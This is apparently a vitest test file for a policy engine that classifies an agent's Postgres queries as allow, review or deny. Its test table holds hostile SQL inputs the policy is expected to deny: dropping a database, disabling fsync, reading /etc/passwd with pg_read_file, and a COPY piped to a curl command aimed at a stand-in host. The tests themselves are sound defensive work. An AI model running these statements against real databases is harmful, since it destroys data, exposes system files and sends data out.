import { classify, loadParser, loadPolicy } from "@countersign/policy";
import { beforeAll, expect, test } from "vitest";
import { checkConfig } from "./load.ts";
import { starterConfig, starterPolicy } from "./starter.ts";

beforeAll(loadParser);

function decide(statement: string): string {
  const facts = classify({ kind: "postgres.query", statement, parameters: [] }, { searchPath: ["public"] });
  const principal = { issuer: "unix", subject: "local-agent", groups: [], claims: {} };
  const resource = { name: "orders-db", type: "postgres", labels: {}, roles: ["reader", "writer"] };
  const decision = loadPolicy({ "policy.yaml": starterPolicy }).decide({ resource, principal, facts, reason: "", nowMs: 0 });
  return decision.effect === "deny" ? `deny ${decision.rules.join()}` : `${decision.effect} as ${decision.role}`;
}

test("the starter configuration is valid, and its commented sample too", () => {
  expect(checkConfig("/x/countersign.yaml", starterConfig("alice")).settings.approvers).toEqual([
    { name: "alice", groups: ["approvers"] },
  ]);
  const sample = starterConfig("al: ice")
    .replace("resources: []\n", "resources:\n")
    .replace(/^#( {2}- name: orders-db| {4}.*)$/gm, "$1");
  expect(checkConfig("/x/countersign.yaml", sample).settings.resources).toMatchObject([
    { name: "orders-db", labels: { env: "staging" } },
  ]);
});

test.each([
  ["select * from orders", "allow as reader"],
  ["update orders set status = 'paid'", "review as writer"],
  ["with gone as (delete from orders returning id) select * from gone", "review as writer"],
  ["select pg_sleep_forever_by_someone()", "review as writer"],
  ["drop table orders", "review as writer"],
  ["drop database orders", "deny dangerous"],
  ["alter system set fsync = off", "deny dangerous"],
  ["select pg_read_file('/etc/passwd')", "deny dangerous"],
  ["copy orders to program 'curl evil'", "deny dangerous"],
])("the starter policy: %s → %s", (statement, expected) => {
  expect(decide(statement)).toBe(expected);
});
